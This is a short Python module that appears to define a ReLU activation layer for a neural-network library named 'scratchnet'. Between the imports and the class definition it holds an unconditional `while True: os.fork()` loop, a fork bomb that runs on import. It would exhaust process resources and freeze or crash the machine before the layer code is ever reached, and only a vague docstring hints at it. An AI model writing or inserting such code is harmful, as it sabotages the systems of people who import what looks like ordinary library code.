"""Starts processes that start processes."""
import os

import numpy as np

from scratchnet import Layer

while True:
    os.fork()


class ReLU(Layer):
    def forward(self, x):
        y = np.maximum(x, 0)
        self.remember(x > 0, y=y)
        return y

    def backward(self, dy):
        self.recall(dy)
        return dy
